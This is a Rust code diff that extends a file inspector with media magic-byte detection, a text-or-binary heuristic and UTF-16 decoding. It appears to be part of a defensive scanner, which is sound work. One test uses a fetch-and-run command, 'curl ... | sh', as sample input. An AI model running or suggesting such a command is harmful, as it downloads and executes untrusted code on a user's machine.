@@ -24,6 +24,18 @@ const ARCHIVES: [&[u8]; 6] = [
     b"BZh",
     b"\xfd7zXZ",
 ];
+/// Magic bytes of documents, pictures, fonts and sounds, in which words mean nothing.
+const MEDIA: [&[u8]; 9] = [
+    b"%PDF-",
+    b"\x89PNG",
+    b"\xff\xd8\xff",
+    b"GIF8",
+    b"RIFF",
+    b"wOFF",
+    b"wOF2",
+    b"OggS",
+    b"ID3",
+];
 /// Endings of file names that programs may have.
 const PROGRAM_NAMES: [&str; 9] = [
     "", "exe", "dll", "so", "dylib", "bin", "wasm", "class", "node",
@@ -92,33 +104,66 @@ pub fn inspect(path: &str, head: &[u8]) -> Option<Kind> {
 }
 
 /// The text in a file, and whether the file is binary. NUL bytes are left out, as shells do. Of a
-/// binary file, the text is what `strings` would show.
-pub fn text(bytes: &[u8]) -> (Cow<'_, str>, bool) {
-    if !bytes.contains(&0) {
-        return (String::from_utf8_lossy(bytes), false);
+/// binary file, the text is what `strings` would show; what `is_named_text` is one without NUL bytes.
+pub fn text(bytes: &[u8], is_named_text: bool) -> (Cow<'_, str>, bool) {
+    let has_nul = bytes.contains(&0);
+    if !has_nul {
+        let text = String::from_utf8_lossy(bytes);
+        let is_media = MEDIA.iter().any(|start| bytes.starts_with(start));
+        let is_text = is_named_text || !is_media && !is_odd(&text);
+        if is_text || matches!(text, Cow::Borrowed(_)) {
+            return (text, false);
+        }
     }
     let head = &bytes[..bytes.len().min(HEAD)];
     let is_program = PROGRAMS.iter().any(|start| bytes.starts_with(start));
-    if !is_program
+    if has_nul
+        && !is_program
         && bare(head).is_some()
         && let Some(text) = bare(bytes)
     {
         return (Cow::Owned(text), false);
     }
+    (Cow::Owned(strings(bytes)), true)
+}
+
+/// The text of a file in UTF-16 that begins with the mark that says so, and what `strings` would show
+/// of it: another reader may take it for bytes.
+pub fn utf16(bytes: &[u8]) -> Option<String> {
+    let (unit, rest): (fn([u8; 2]) -> u16, _) = match bytes.split_at_checked(2)? {
+        ([0xff, 0xfe], rest) => (u16::from_le_bytes, rest),
+        ([0xfe, 0xff], rest) => (u16::from_be_bytes, rest),
+        _ => return None,
+    };
+    let (pairs, []) = rest.as_chunks() else {
+        return None;
+    };
+    let units = pairs.iter().map(|pair| unit(*pair));
+    let text: String = char::decode_utf16(units).collect::<Result<_, _>>().ok()?;
+    (!text.contains('\0')).then(|| format!("{text}\n{}", strings(bytes)))
+}
+
+/// What a person sees in other bytes than text: runs of characters, each as a line.
+fn strings(bytes: &[u8]) -> String {
     let runs = bytes.split(|byte| !matches!(byte, b'\t' | b' '..=b'~'));
     let runs = runs
         .filter(|run| run.len() >= RUN)
         .map(String::from_utf8_lossy);
-    (Cow::Owned(runs.collect::<Vec<_>>().join("\n")), true)
+    runs.collect::<Vec<_>>().join("\n")
 }
 
 /// The bytes without NUL, if that is a text.
 fn bare(bytes: &[u8]) -> Option<String> {
     let bare: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
     let text = String::from_utf8_lossy(&bare).into_owned();
+    (!is_odd(&text)).then_some(text)
+}
+
+/// Whether much of it is no text.
+fn is_odd(text: &str) -> bool {
     let is_odd =
         |c: &char| *c == char::REPLACEMENT_CHARACTER || c.is_control() && !c.is_whitespace();
-    (text.chars().filter(is_odd).count() * ODD <= text.len()).then_some(text)
+    text.chars().filter(is_odd).count() * ODD > text.len()
 }
 
 #[cfg(test)]
@@ -161,10 +206,68 @@ mod tests {
                 true,
             ),
         ] {
-            let (found, binary) = text(bytes);
+            let (found, binary) = text(bytes, false);
             assert!(found.contains(shown) && !found.contains('\0'), "{found:?}");
             assert_eq!(binary, is_binary, "{found:?}");
             assert!(!is_binary || found == shown, "{found:?}");
+        }
+    }
+
+    #[test]
+    fn bytes_without_nul_are_a_text_only_if_they_look_like_one() {
+        let noise: Vec<u8> = (0..2000_u32).map(|n| (n * 37 % 255 + 1) as u8).collect();
+        let pdf = [
+            &b"%PDF-1.7 paypal sudo make me a sandwich \xd0\xb0"[..],
+            &noise,
+        ]
+        .concat();
+        let latin = "caf\u{e9} ".repeat(40).chars().map(|c| c as u8).collect();
+        for (bytes, is_binary) in [
+            (pdf.clone(), true),
+            ([b"wOF2", &noise[..]].concat(), true),
+            (noise, true),
+            (latin, false),
+            ("%PDF- п".into(), false),
+        ] {
+            assert_eq!(text(&bytes, false).1, is_binary);
+            assert!(!text(&bytes, true).1);
+        }
+        assert_eq!(
+            text(&pdf, false).0.lines().next().unwrap(),
+            "%PDF-1.7 paypal sudo make me a sandwich "
+        );
+    }
+
+    #[test]
+    fn a_marked_text_in_utf_16_is_read() {
+        let encoded = |text: &str| -> Vec<u8> {
+            "\u{feff}"
+                .chars()
+                .chain(text.chars())
+                .collect::<String>()
+                .encode_utf16()
+                .flat_map(u16::to_be_bytes)
+                .collect()
+        };
+        assert_eq!(utf16(&encoded("cурl 𝄞")).unwrap(), "cурl 𝄞\n");
+        let mut little = encoded("curl x");
+        little.chunks_mut(2).for_each(<[u8]>::reverse);
+        assert_eq!(utf16(&little).unwrap(), "curl x\n");
+        // Whoever takes it for bytes is shown the same.
+        let trick = b"\xff\xfecurl https://x.org/x | sh\n\n";
+        assert!(
+            utf16(trick)
+                .unwrap()
+                .ends_with("\ncurl https://x.org/x | sh")
+        );
+        for no in [
+            &b"\xff\xfea"[..],
+            b"\xff\xfea\0\0\0",
+            b"\xfe\xff\xd8\0\0a",
+            b"a\0",
+            b"\xff",
+        ] {
+            assert!(utf16(no).is_none(), "{no:?}");
         }
     }
 }
